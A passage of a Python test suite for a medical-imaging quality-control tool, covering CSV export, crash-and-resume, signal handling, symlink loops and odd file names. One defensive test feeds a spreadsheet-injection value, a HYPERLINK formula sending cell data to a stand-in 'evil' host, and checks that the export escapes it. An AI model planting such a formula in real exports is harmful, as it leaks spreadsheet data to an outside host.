        f"qc.sqlite: no results for model 'nosuch'; the database holds: {MODEL}")


def test_a_delimited_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    """A reviewer's name typed into the review app as `=HYPERLINK(…)` ran as a formula in
    Excel; text starting like a formula is exported with a leading `'`, numbers as they are."""
    import csv

    from medq.qc.export import export_items

    with Store(tmp_path / "qc.sqlite") as store:
        item = store.record({"path": "/a.dcm", "model": MODEL, "fingerprint": "f",
                             "status": "ok", "score": -1.5})
        store.add_review(item, '=HYPERLINK("http://evil/"&A1,"x")', "comment", "+1 @all")
        export_items(store, tmp_path / "x.csv")
    (row,) = csv.DictReader((tmp_path / "x.csv").open(encoding="utf-8"))
    assert row["reviewer"] == '\'=HYPERLINK("http://evil/"&A1,"x")'
    assert row["score"] == "-1.5"


# --- kill -9 and resume, through the command line ------------------------------------------------

def _qc_command(archive: Path, db: Path) -> list[str]:
    return [sys.executable, "-m", "medq.cli", "qc", "run", str(archive), "--db", str(db),
            "--workers", "2", "--json"]


def _group_gone(pgid: int, within: float) -> bool:
    """True once no process of the group is left (killed processes are reaped by init)."""
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        try:
            os.killpg(pgid, 0)
        except ProcessLookupError:
            return True
        time.sleep(0.2)
    return False


@pytest.mark.slow
def test_kill_9_mid_run_then_resume_leaves_exactly_one_row_per_item(tmp_path: Path) -> None:
    made = make_archive(tmp_path / "archive", 24)
    total = len(made["items"])
    db = tmp_path / "qc.sqlite"
    proc = subprocess.Popen(_qc_command(tmp_path / "archive", db), start_new_session=True,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    watcher = None
    deadline = time.monotonic() + 240
    committed = 0
    try:
        while time.monotonic() < deadline and proc.poll() is None:
            if db.exists():
                watcher = watcher or Store(db)
                committed = watcher.count()
                if committed >= 4:
                    break
            time.sleep(0.1)
    finally:
        os.killpg(proc.pid, signal.SIGKILL)  # the client and its Dask workers, mid-transaction
        proc.wait(timeout=60)
    assert proc.returncode == -signal.SIGKILL, "the run ended before it could be killed"
    assert _group_gone(proc.pid, within=20.0), "a Dask worker of the killed run survived"
    assert watcher is not None
    kept = watcher.count()
    assert 4 <= kept < total
    watcher.close()
    resumed = subprocess.run(_qc_command(tmp_path / "archive", db), capture_output=True,
                             text=True, timeout=400)
    summary = json.loads(resumed.stdout)
    assert summary["total"] == total and summary["skipped"] == kept
    assert summary["ok"] + summary["errors"] == total - kept
    assert resumed.returncode == (2 if summary["errors"] else 0)
    store = Store(db)
    rows = store.items(sort="path")
    assert [r["path"] for r in rows] == made["items"]  # one row each: nothing lost or doubled
    for row in rows:
        expected = "error" if row["path"] in made["corrupt"] else "ok"
        assert row["status"] == expected, row["path"]
        assert (row["error"] or "").startswith(row["path"]) if expected == "error" else (
            row["score"] is not None)
    runs = store.runs()
    assert len(runs) == 2 and runs[1]["finished_at"] is None and runs[0]["finished_at"]
    store.close()


def _ctrl_c_as_in_a_terminal() -> None:
    """In the child before exec: SIGINT's default action, as a terminal's foreground job has it
    (a test run started in the background, `nohup … &`, hands its children SIGINT ignored)."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def test_a_run_stopped_while_its_model_loads_says_so_and_leaves_no_database(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Ctrl-C or SIGTERM in a run's first seconds (the model loading) exited silently, with
    neither the interrupted line nor the --json counts; one stopped before its first write left
    an empty database file, which readers took for a results database."""
    import medq.assess.weights as weights
    from medq.qc.store import Store

    save(_slice2d(), tmp_path / "archive" / "ct.dcm")
    db = tmp_path / "qc.sqlite"

    def interrupted(*_: object) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr(weights, "load_weights", interrupted)
        res = run_medq("qc", "run", tmp_path / "archive", "--db", db, "--json")
    assert res.returncode == 130 and res.stderr.strip() == (
        "medq: interrupted while loading the model; nothing was assessed"), res.stderr
    assert json.loads(res.stdout)["interrupted"] is True and not db.exists()
    import medq.qc.store as store_module

    def half_made(engine: object) -> None:  # stopped while the schema is written
        assert db.exists()  # the file is made by then
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr(store_module, "create_schema", half_made)
        res = run_medq("qc", "run", tmp_path / "archive", "--db", db)
    assert res.returncode == 130 and not db.exists(), res.stderr
    assert "interrupted while opening the results database" in res.stderr
    import medq.qc.runner as runner

    def stopped(*_: object, **__: object) -> None:  # stopped before the run row is written
        raise runner.RunInterrupted(0, {})

    with monkeypatch.context() as patch:
        patch.setattr(runner, "run_qc", stopped)
        res = run_medq("qc", "run", tmp_path / "archive", "--db", db)
    assert res.returncode == 130 and "nothing was assessed" in res.stderr and not db.exists()
    Store(db).close()  # a database holding results from before is kept
    with monkeypatch.context() as patch:
        patch.setattr(runner, "run_qc", stopped)
        run_medq("qc", "run", tmp_path / "archive", "--db", db)
    assert db.exists()


@pytest.mark.parametrize("stop", ["ctrl_c", "sigterm"])
def test_ctrl_c_in_a_terminal_stops_the_run_with_one_line(tmp_path: Path, stop: str) -> None:
    """Ctrl-C reaches the whole foreground process group, Dask's workers too: the run stops with
    exit 130 and the one interrupted line, and no worker prints a KeyboardInterrupt traceback
    (before: two tracebacks of 30 lines each). SIGTERM to medq alone (`timeout`, systemd, a
    batch scheduler) stops it the same way with exit 143; it left the run row at 0 items."""
    make_archive(tmp_path / "archive", 24)
    db = tmp_path / "qc.sqlite"
    proc = subprocess.Popen(_qc_command(tmp_path / "archive", db), start_new_session=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            preexec_fn=_ctrl_c_as_in_a_terminal)
    deadline = time.monotonic() + 240
    watcher = None
    while time.monotonic() < deadline and proc.poll() is None:
        if db.exists():
            watcher = watcher or Store(db)
            if watcher.count() >= 2:
                break
        time.sleep(0.1)
    if stop == "ctrl_c":
        os.killpg(proc.pid, signal.SIGINT)  # what the terminal does on Ctrl-C
    else:
        proc.send_signal(signal.SIGTERM)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == (130 if stop == "ctrl_c" else 143), err
    assert "Traceback" not in err and "KeyboardInterrupt" not in err, err
    last = err.strip().splitlines()[-1]
    assert last.startswith("medq: interrupted after ") and last.endswith(
        " items; run the same command again to continue"), err
    assert _group_gone(proc.pid, within=20.0)
    run = watcher.runs()[-1]
    assert run["finished_at"] is None and run["ok"] + run["errors"] >= 2  # the counts so far
    said = json.loads(out)  # --json: a script still reads the counts so far (it read nothing)
    assert said.pop("seconds") > 0 and said == {
        "total": run["total"], "ok": run["ok"], "errors": run["errors"],
        "skipped": run["skipped"], "interrupted": True}
    watcher.close()


def test_processes_started_while_ctrl_c_is_deferred_ignore_it() -> None:
    """`ctrl_c_deferred`: a process started inside ignores SIGINT for good, and a Ctrl-C that
    reaches this thread inside is raised as KeyboardInterrupt once the block ends, not before."""
    import threading

    from medq.qc.signals import ctrl_c_deferred

    assert threading.current_thread() is threading.main_thread()  # where signals are handled
    probe = "import signal; print(signal.getsignal(signal.SIGINT) is signal.SIG_IGN)"
    reached = []
    inherited = signal.signal(signal.SIGINT, signal.default_int_handler)  # as in a terminal
    try:
        with pytest.raises(KeyboardInterrupt), ctrl_c_deferred():
            child = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True)
            signal.pthread_kill(threading.get_ident(), signal.SIGINT)
            time.sleep(0.05)
            reached.append("the block's end")
        assert reached == ["the block's end"] and child.stdout.strip() == "True"
        outside = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True)
        assert outside.stdout.strip() == "False"  # Python's own handler is back
        assert signal.getsignal(signal.SIGINT) is signal.default_int_handler
    finally:
        signal.signal(signal.SIGINT, signal.SIG_DFL if inherited is None else inherited)


def test_a_stop_during_a_results_write_waits_for_the_write(tmp_path: Path) -> None:
    """`stop_signals_held`, around each result's write and count: a Ctrl-C or SIGTERM that
    arrives inside is handled once the block ends, so the transaction completes and the run
    row's last update finds the database unlocked (it met "database is locked" when a Ctrl-C
    fell inside a commit)."""
    import threading

    from medq.qc.signals import stop_signals_held

    def stop(signum: int, frame: object) -> None:
        raise KeyboardInterrupt

    store = Store(tmp_path / "qc.sqlite")
    previous = signal.signal(signal.SIGTERM, stop)  # as `medq qc run` answers SIGTERM
    inherited = signal.signal(signal.SIGINT, signal.default_int_handler)  # as in a terminal
    written = []
    idle = threading.Event()
    other = threading.Thread(target=idle.wait, daemon=True)  # as Dask's threads in the client
    other.start()
    try:
        for kind in (signal.SIGINT, signal.SIGTERM):
            # delivered to this thread, then to another one (Python runs the handler here)
            for target in (threading.get_ident(), other.ident):
                with pytest.raises(KeyboardInterrupt), stop_signals_held():
                    signal.pthread_kill(target, kind)
                    time.sleep(0.05)
                    run = store.start_run(str(tmp_path), "mediqa-s", 1, None)  # a write, whole
                    written.append(run)
        store.finish_run(written[-1], {"total": 0, "ok": 0, "errors": 0, "skipped": 0},
                         finished=False)  # the database is not locked
        assert len(store.runs()) == 4
    finally:
        idle.set()
        signal.signal(signal.SIGTERM, previous)
        signal.signal(signal.SIGINT, signal.SIG_DFL if inherited is None else inherited)
        store.close()


def test_links_to_nothing_and_loops_of_links_are_bad_input_not_internal_errors(
        tmp_path: Path) -> None:
    # `medq qc run` stored them as "internal error: FileNotFoundError …" and exited 1
    from medq.errors import MissingInput, UnreadableImage
    from medq.qc.planning import outside, plan
    from medq.qc.runner import error_result

    folder = tmp_path / "d"
    folder.mkdir()
    shutil.copy(get_testdata_file("CT_small.dcm"), folder / "ct.dcm")
    (folder / "dangling.dcm").symlink_to(tmp_path / "nonexistent")
    (folder / "b").symlink_to("a")
    (folder / "a").symlink_to("b")
    found_items = discover(folder)
    # leaving the database's own files out followed the links: the loop aborted the whole run
    assert outside(found_items, [folder / "qc.sqlite"]) == found_items
    todo, unreadable, skipped = plan(found_items, {})
    assert [Path(item.path).name for item, _ in todo] == ["ct.dcm"] and skipped == 0
    found = {Path(item.path).name: exc for item, _, exc in unreadable}
    assert isinstance(found["dangling.dcm"], MissingInput)
    assert isinstance(found["a"], UnreadableImage) and "loop of symbolic links" in str(found["a"])
    stored = error_result(next(i for i, _, _ in unreadable), found["a"])
    assert stored["bad_input"] and "internal error" not in stored["error"]


def test_linked_folders_are_walked_once_and_loops_of_folders_end(tmp_path: Path) -> None:
    # a training set built of links to its sources' folders: the linked folders' files were
    # skipped without a word by qc run, assess and info (os.walk does not follow links)
    from medq.io.archive import walk_folders

    source = tmp_path / "source"
    source.mkdir()
    shutil.copy(get_testdata_file("CT_small.dcm"), source / "ct.dcm")
    shutil.copy(get_testdata_file("MR_small.dcm"), source / "mr.dcm")
    folder = tmp_path / "set"
    (folder / "z_real").mkdir(parents=True)
    shutil.copy(get_testdata_file("CT_small.dcm"), folder / "z_real" / "own.dcm")
    (folder / "linked").symlink_to(source)
    (folder / "again").symlink_to(source)  # the same folder twice: read once
    (folder / "a_link").symlink_to(folder / "z_real")  # inside: read under its own name
    (folder / "self").symlink_to(folder)  # a loop: never walked into
    (folder / "up").symlink_to(tmp_path)  # a folder holding the set: never walked into
    names = sorted(str(Path(item.path).relative_to(folder)) for item in discover(folder))
    assert names == ["again/ct.dcm", "again/mr.dcm", "z_real/own.dcm"]
    assert [Path(f).name for f, _ in walk_folders(folder)] == ["set", "again", "z_real"]


def test_a_file_name_that_is_not_utf8_is_stored_escaped_and_still_assessed(
        tmp_path: Path) -> None:
    # the database stores text: one such name ended every run before anything was stored
    from medq.qc.discover import split_notes
    from medq.qc.planning import plan

    folder = tmp_path / "d"
    folder.mkdir()
    shutil.copy(get_testdata_file("CT_small.dcm"), folder / "ok.dcm")
    odd = os.fsdecode(bytes(folder) + b"/bad_\xff\xfe.dcm")
    shutil.copy(get_testdata_file("CT_small.dcm"), odd)
    found = {Path(item.path).name: item for item in discover(folder)}
    assert sorted(found) == ["bad_\\xff\\xfe.dcm", "ok.dcm"]
    item = found["bad_\\xff\\xfe.dcm"]
    assert item.files == (odd,) and load_item(item).shape == (128, 128)
    assert "not UTF-8" in dict(split_notes([item]))[str(folder)]
    todo, _, _ = plan(list(found.values()), {})
    with Store(tmp_path / "qc.sqlite") as store:
        for it, fp in todo:
            store.record({"path": it.path, "model": "m", "fingerprint": fp, "status": "ok"})
        assert sorted(Path(r["path"]).name for r in store.items()) == sorted(found)
        # an error naming such a file, and a run on a folder of such a name, are stored too
        store.record({"path": item.path, "model": "m", "fingerprint": "f", "status": "error",
                      "error": f"{odd}: not a DICOM file"})
        store.start_run(os.fsdecode(bytes(folder) + b"_\xff"), "m", 1, None)
        assert "bad_\\xff\\xfe.dcm: not a DICOM" in store.item(
            store.items(status="error")[0]["id"])["error"]
    # a series folder and a 4D file of such names are read from their own paths
    import nibabel as nib

    series = save(_volume(60), os.fsdecode(bytes(tmp_path) + b"/s_\xff/t1"))
    data = np.stack([_volume(20).array.T] * 2, axis=-1)
    nib.save(nib.Nifti1Image(data, np.eye(4)), os.fsdecode(bytes(tmp_path) + b"/s_\xff/f.nii"))
    items = {Path(i.path).name: i for i in discover(os.fsdecode(bytes(tmp_path) + b"/s_\xff"),
                                                   each_volume=True)}
    assert sorted(items) == ["f.nii@volume=0", "f.nii@volume=1", "t1"]
    assert load_item(items["t1"]).shape == _volume(60).shape and items["t1"].read_as == str(
        Path(series).resolve())
    assert load_item(items["f.nii@volume=1"]).shape == _volume(20).shape


def test_a_database_kept_inside_the_archive_is_not_an_input(tmp_path: Path) -> None:
    # `medq qc run scans --db scans/qc.sqlite` read its own database and its WAL and SHM files
    # as three bad inputs (exit 2; the database exists before the folder is walked)
    from medq.qc.planning import outside

    scans = tmp_path / "scans"
    scans.mkdir()
    shutil.copy(get_testdata_file("CT_small.dcm"), scans / "ct.dcm")
    with Store(scans / "qc.sqlite") as store:
        store.start_run(str(scans), "mediqa-s", 1, None)  # the database and its journal files
        assert [Path(i.path).name for i in discover(scans)] == ["ct.dcm"]  # never images
    with Store(scans / "results.qc") as store:  # a name no walk knows as a database
        store.start_run(str(scans), "mediqa-s", 1, None)
        found = discover(scans)
        assert len(found) > 1  # the walk sees it
        assert [Path(i.path).name for i in outside(found, store.own_files)] == ["ct.dcm"]


def test_a_malformed_scheduler_address_is_a_usage_error(tmp_path: Path) -> None:
    # `--scheduler notaurl` failed as "internal error: ValueError …", exit 1
    from medq.qc.runner import start_client

    for address in ("notaurl", "tcp://host:notaport"):
        with pytest.raises(InvalidParameter, match="not a Dask scheduler address"):
            start_client(None, address)


def test_an_unfinished_run_of_the_same_archive_active_lately_is_found(tmp_path: Path) -> None:
    """Two `medq qc run`s on one database both assessed every item without a word; the second
    now names the first while it is active (started or stored an item within two minutes)."""
    from medq.qc.planning import running_alongside

    archive = tmp_path / "archive"
    archive.mkdir()
    with Store(tmp_path / "qc.sqlite") as store:
        first = store.start_run(str(archive.resolve()), MODEL, 2, None)
        [(run_id, ago)] = running_alongside(store, archive, MODEL)
        assert run_id == first and 0 <= ago < 60
        assert running_alongside(store, archive, "another-model") == []
        assert running_alongside(store, tmp_path / "elsewhere", MODEL) == []
        assert running_alongside(store, archive, MODEL, within_s=-1) == []  # long ago
        store.finish_run(first, {"total": 0, "ok": 0, "errors": 0, "skipped": 0})
        assert running_alongside(store, archive, MODEL) == []
        # stopped by Ctrl-C a moment ago: the rerun the docs advise read it as still writing
        stopped = store.start_run(str(archive.resolve()), MODEL, 2, None)
        assert [r for r, _ in running_alongside(store, archive, MODEL)] == [stopped]
        store.finish_run(stopped, {"total": 1, "ok": 0, "errors": 0, "skipped": 0},
                         finished=False)
        assert running_alongside(store, archive, MODEL) == []
        row = next(r for r in store.runs() if r["id"] == stopped)
        assert row["finished_at"] is None and row["stopped_at"] is not None
        import datetime as dt

        import sqlalchemy as sa

        from medq.qc.schema import runs_table

        long = store.start_run(str(archive.resolve()), MODEL, 2, None)
        with store.engine.begin() as conn:  # started an hour ago, still storing items
            conn.execute(runs_table.update().where(runs_table.c.id == long).values(
                started_at=dt.datetime.now(dt.timezone.utc) - dt.timedelta(hours=1)))
        assert running_alongside(store, archive, MODEL) == []
        store.record({"path": str(archive / "ct.dcm"), "model": MODEL, "fingerprint": "f" * 64,
                      "status": "ok", "score": 3.0, "run_id": long})
        assert [run_id for run_id, _ in running_alongside(store, archive, MODEL)] == [long]
        assert "ix_items_run_id" in {i["name"] for i in sa.inspect(store.engine).get_indexes(
            "items")}  # run_id looked up by index


def test_a_run_logged_to_a_file_says_how_far_it_is(tmp_path: Path, cluster,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """Where stderr is no terminal (cron, a batch scheduler's log) the bar is hidden; a line
    of progress comes every `LOG_EVERY_S` seconds instead (before: nothing until the end)."""
    import medq.cli.qc as qc_cli

    archive = tmp_path / "archive"
    for k in range(3):
        save(_slice2d(seed=k), archive / f"ct{k}.dcm")
    monkeypatch.setattr(qc_cli, "LOG_EVERY_S", 0.0)  # a line after every item
    with Store(tmp_path / "qc.sqlite") as store:  # a run of the archive, active, not finished
        other = store.start_run(str(archive.resolve()), MODEL, 2, None)
    res = run_medq("qc", "run", str(archive), "--db", str(tmp_path / "qc.sqlite"),
                   "--scheduler", cluster.scheduler.address, "--no-measures")
    assert res.returncode == 0, res.stderr
    assert f"medq: note: run {other} of this archive was last active " in res.stderr
    lines = [line for line in res.stderr.splitlines() if " items assessed (" in line]
    assert [line.split(" items")[0] for line in lines] == [f"medq: {k} of 3" for k in (1, 2, 3)]
    assert lines[-1].endswith(" items/s)")
